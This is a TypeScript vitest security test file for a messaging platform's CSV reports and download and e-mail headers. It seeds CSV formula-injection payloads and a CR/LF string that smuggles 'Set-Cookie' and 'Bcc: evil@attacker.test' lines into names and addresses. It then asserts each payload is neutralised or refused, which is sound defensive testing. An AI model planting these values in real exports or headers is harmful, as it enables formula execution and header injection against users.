import { eq, sql } from 'drizzle-orm';
import { beforeAll, describe, expect, it, vi } from 'vitest';
import { GET as campaignCsv } from '@/app/(app)/bulk/[id]/delivery-report.csv/route';
import { GET as runDownload } from '@/app/(app)/reports/runs/[id]/download/route';
import { POST as createCampaignApi } from '@/app/api/campaigns/route';
import { db } from '@/db';
import { contacts, emailOutbox, reportDefinitions, reportFileChunks, shortLinks } from '@/db/schema';
import { createApiToken } from '@/lib/auth/api-tokens';
import type { SessionUser } from '@/lib/auth/session-user';
import { loadSessionUser, startSession } from '@/lib/auth/session-user';
import { headerSafe, queueEmail, safeFileName } from '@/lib/email';
import { createContactField } from '@/lib/contacts/fields';
import { AppError } from '@/lib/errors';
import { planSend, submitSend } from '@/lib/messaging/send';
import { createReport } from '@/lib/reports/definitions';
import { parseCsv } from '@/lib/files/csv-testing';
import { contentDisposition } from '@/lib/files/download';
import { generateRun } from '@/lib/reports/generate';
import { mailReadyRun } from '@/lib/reports/mail';
import { makeAccount } from './fixtures/accounts';
import { session } from './fixtures/session';

// Attacker-controlled text in every field that reaches a CSV file, a download header or an
// e-mail header. The only mock stands in for the session cookie.
vi.mock('@/lib/auth', () => import('./fixtures/session'));

const PAYLOADS = ['=HYPERLINK("http://x","y")', '+1', '-1+1', '@SUM(A1)', '\t=1', '\r=1'] as const;
const NOW = new Date('2026-04-05T10:00:00Z');
const PERIOD = { kind: 'custom', from: '2026-04-01', to: '2026-04-03' } as const;
const HEADER_INJECTION = 'Q1 "report"\r\nSet-Cookie: x=1\r\nBcc: evil@attacker.test';

let owner: SessionUser;
let campaignId: string;
const phones = PAYLOADS.map((_, i) => `+35988${String(3_000_000 + i).padStart(7, '0')}`);

/** Every cell of every row: nothing a spreadsheet would read as a formula (a number in E.164, "+" and digits, is not one). */
function expectNoFormula(rows: string[][]) {
  for (const row of rows) {
    for (const cell of row) {
      if (/^[=+\-@\t\r\n]/.test(cell) && !/^[+][1-9]\d{1,14}$/.test(cell)) throw new Error(`formula-like cell ${JSON.stringify(cell)} in row ${JSON.stringify(row)}`);
    }
  }
}

/** The cells that hold a payload hold it neutralised: a leading ' then the text unchanged. */
function expectNeutralised(rows: string[][], payload: string) {
  const cells = rows.flat();
  expect(cells).toContain(`'${payload}`);
  expect(cells).not.toContain(payload);
}

async function fileOf(runId: string): Promise<string> {
  const chunks = await db.select().from(reportFileChunks).where(eq(reportFileChunks.runId, runId)).orderBy(reportFileChunks.seq);
  const text = Buffer.concat(chunks.map((c) => c.data)).toString('utf8');
  expect(text.startsWith('\uFEFF')).toBe(true);
  return text.slice(1);
}

async function report(type: 'detailed' | 'short' | 'group', name: string, extra: Record<string, unknown> = {}) {
  const { runId } = await createReport(owner.account.id, owner.id, { method: 'once', period: PERIOD, type, format: 'csv', name, ...extra }, NOW);
  expect(await generateRun(runId!)).toBe('ready');
  return runId!;
}

const SAFE_DISPOSITION = /^attachment; filename="[A-Za-z0-9._-]+"; filename\*=UTF-8''[A-Za-z0-9%._~!-]+$/;

beforeAll(async () => {
  const { account, user } = await makeAccount('Csv Atk', 1000);
  // One single send per payload as content, each with the payloads as idx.
  for (const [i, payload] of PAYLOADS.entries()) {
    await submitSend(
      await planSend({ accountId: account.id, userId: user.id, source: 'api', sender: 'CsvAtk', content: payload, recipients: [phones[i]], idx: PAYLOADS[(i + 1) % PAYLOADS.length] }),
    );
  }
  // A campaign whose name, content and idx values are payloads.
  const result = await submitSend(
    await planSend({
      accountId: account.id,
      userId: user.id,
      source: 'portal',
      sender: 'CsvAtk',
      content: PAYLOADS[0],
      recipients: phones,
      idx: [...PAYLOADS],
      campaign: { name: PAYLOADS[2], rate: 10 },
    }),
  );
  campaignId = result.campaignId!;
  await db.execute(sql`update messages set created_at = '2026-04-02T09:00:00Z' where account_id = ${account.id}`);
  await db.execute(sql`update campaigns set created_at = '2026-04-02T09:00:00Z' where account_id = ${account.id}`);
  // Contacts for every recipient, every text field a payload, custom fields included.
  const note = await createContactField(account.id, { name: 'Note', type: 'text' });
  const tier = await createContactField(account.id, { name: 'Ниво', type: 'text' });
  await db.insert(contacts).values(
    PAYLOADS.map((payload, i) => ({
      accountId: account.id,
      phone: phones[i],
      firstName: payload,
      lastName: PAYLOADS[(i + 2) % PAYLOADS.length],
      email: PAYLOADS[(i + 3) % PAYLOADS.length],
      customFields: { [note.id]: payload, [tier.id]: '=1+1' },
    })),
  );
  const [first] = await db.execute<{ id: number }>(sql`select id from messages where account_id = ${account.id} order by id limit 1`);
  await db.insert(shortLinks).values({ accountId: account.id, messageId: first.id, code: '@SUM(A1)', targetUrl: '=HYPERLINK("http://x","y")' });
  owner = (await loadSessionUser(user.id, await startSession(user.id)))!;
});

describe('CSV formula payloads in every user-controlled field', () => {
  it('the detailed report with content, IDX, contacts and short links: no formula cell, every payload neutralised', async () => {
    const runId = await report('detailed', PAYLOADS[0], {
      includeContent: true,
      enrichments: { idx: true, contacts: true, shortLinks: true },
    });
    const { rows } = parseCsv(await fileOf(runId));
    expect(rows[0]).toEqual(expect.arrayContaining(['Content', 'IDX', 'First name', 'Last name', 'E-mail', 'Note', 'Ниво', 'Short link', 'Link target']));
    expect(rows.length).toBe(1 + PAYLOADS.length * 2);
    expectNoFormula(rows);
    for (const payload of PAYLOADS) expectNeutralised(rows, payload);
    const col = (name: string) => rows[0].indexOf(name);
    for (const row of rows.slice(1)) {
      for (const name of ['Content', 'IDX', 'First name', 'Last name', 'E-mail', 'Note', 'Ниво']) expect(row[col(name)].startsWith("'")).toBe(true);
    }
  });

  it('the short and group reports (campaign name as a title) have no formula cell', async () => {
    for (const type of ['short', 'group'] as const) {
      const { rows } = parseCsv(await fileOf(await report(type, `${type} ${PAYLOADS[3]}`)));
      expect(rows.length).toBeGreaterThan(1);
      expectNoFormula(rows);
      if (type === 'group') expectNeutralised(rows, PAYLOADS[2]);
    }
  });

  it('the campaign delivery-report CSV: no formula cell, content and IDX neutralised, safe file name', async () => {
    session.user = owner;
    const response = await campaignCsv(new Request(`http://localhost/bulk/${campaignId}/delivery-report.csv`), { params: Promise.resolve({ id: campaignId }) });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-disposition')).toMatch(SAFE_DISPOSITION);
    const text = await response.text();
    const { rows } = parseCsv(text.replace(/^\uFEFF/, ''));
    expect(rows.length).toBe(1 + PAYLOADS.length);
    expectNoFormula(rows);
    for (const payload of PAYLOADS) expectNeutralised(rows, payload);
  });

  it('report names that look like formulas become plain, quoted file names', async () => {
    for (const payload of PAYLOADS) {
      const value = contentDisposition(payload, 'csv');
      expect(value).toMatch(SAFE_DISPOSITION);
      expect(value).not.toMatch(/[\r\n\t]/);
    }
  });
});

describe('header injection', () => {
  it('a campaign name with CR/LF is refused by the API; one already stored still gives a safe Content-Disposition', async () => {
    const { account, user } = await makeAccount('Hdr Atk', 100);
    const { token } = await createApiToken({ accountId: account.id, userId: user.id, name: 'h' });
    const create = (name: string) =>
      createCampaignApi(
        new Request('http://app.test/api/campaigns', {
          method: 'POST',
          headers: { 'content-type': 'application/json', authorization: `Bearer ${token}` },
          body: JSON.stringify({ from: 'HdrAtk', message: 'hello', to: ['0888444555'], name }),
        }),
      );
    const refused = await create(HEADER_INJECTION);
    expect(refused.status).toBe(400);
    expect(((await refused.json()) as { error: number }).error).toBe(8);
    const created = await create('Plain');
    expect(created.status).toBe(201);
    const { id } = (await created.json()) as { id: string };
    // A legacy or hand-edited row: the name holds CR/LF, quotes and header lines.
    await db.execute(sql`update campaigns set name = ${HEADER_INJECTION} where id = ${id}`);
    session.user = (await loadSessionUser(user.id, await startSession(user.id)))!;
    const response = await campaignCsv(new Request(`http://localhost/bulk/${id}/delivery-report.csv`), { params: Promise.resolve({ id }) });
    expect(response.status).toBe(200);
    const disposition = response.headers.get('content-disposition')!;
    expect(disposition).toMatch(SAFE_DISPOSITION);
    expect(disposition).not.toMatch(/Set-Cookie:|\r|\n/);
    expect(response.headers.get('set-cookie')).toBeNull();
    expect(response.headers.get('bcc')).toBeNull();
    await response.body?.cancel();
  });

  it('a report name with CR/LF is refused by the form; one already stored still gives safe download and mail headers', async () => {
    await expect(
      createReport(owner.account.id, owner.id, { method: 'once', period: PERIOD, type: 'short', format: 'csv', name: HEADER_INJECTION }, NOW),
    ).rejects.toThrow(/control characters/);

    // Legacy or hand-edited row: the definition's name holds CR/LF, quotes and a Bcc line.
    const { runId, definitionId } = await createReport(
      owner.account.id,
      owner.id,
      { method: 'once', period: PERIOD, type: 'short', format: 'csv', name: 'placeholder', emails: ['boss@example.com'] },
      NOW,
    );
    await db.update(reportDefinitions).set({ name: HEADER_INJECTION }).where(eq(reportDefinitions.id, definitionId));
    expect(await generateRun(runId!)).toBe('ready');

    session.user = owner;
    const response = await runDownload(new Request(`http://localhost/reports/runs/${runId}/download`), { params: Promise.resolve({ id: runId! }) });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-disposition')).toMatch(SAFE_DISPOSITION);
    expect(response.headers.get('set-cookie')).toBeNull();
    await response.body?.cancel();

    expect(await mailReadyRun(runId!)).toBe(true);
    const [mail] = await db.select().from(emailOutbox).where(eq(emailOutbox.accountId, owner.account.id));
    expect(mail.to).toEqual(['boss@example.com']);
    expect(mail.subject).not.toMatch(/[\r\n]/);
    expect(mail.subject).toContain('Set-Cookie: x=1 Bcc: evil@attacker.test'); // one line, harmless text
    for (const attachment of mail.attachments) expect(attachment.filename).not.toMatch(/[\r\n"\\/]/);
  });

  it('queueEmail strips CR/LF from subjects and file names, and refuses injected addresses without writing', async () => {
    const { account } = await makeAccount('Mail Atk', 0);
    const before = await db.$count(emailOutbox);
    const base = { accountId: account.id, to: ['a@example.com'], html: '<p>x</p>', text: 'x' };
    const queued = await db.transaction((tx) =>
      queueEmail(tx, {
        ...base,
        idempotencyKey: 'attack/1',
        subject: `Report ${HEADER_INJECTION}\u2028X: y\u0085Z: w`,
        attachments: [{ filename: 'a\r\nContent-Type: text/html".csv', runId: '00000000-0000-4000-8000-000000000000' }],
      }),
    );
    expect(queued.queued).toBe(true);
    const [row] = await db.select().from(emailOutbox).where(eq(emailOutbox.id, queued.id!));
    expect(row.subject).not.toMatch(/[\r\n\u2028\u0085]/);
    expect(row.subject).toBe(headerSafe(row.subject));
    expect(row.attachments[0].filename).not.toMatch(/[\r\n"]/);
    expect(safeFileName('\r\n')).toBe('report');

    await expect(db.transaction((tx) => queueEmail(tx, { ...base, idempotencyKey: 'attack/2', subject: '\r\n\r\n' }))).rejects.toThrow(AppError);
    await expect(
      db.transaction((tx) => queueEmail(tx, { ...base, idempotencyKey: 'attack/3', subject: 'x', to: ['a@example.com\r\nBcc: evil@attacker.test'] })),
    ).rejects.toThrow(AppError);
    await expect(db.transaction((tx) => queueEmail(tx, { ...base, idempotencyKey: 'attack\r\n4', subject: 'x' }))).rejects.toThrow(AppError);
    expect(await db.$count(emailOutbox)).toBe(before + 1);
  });
});
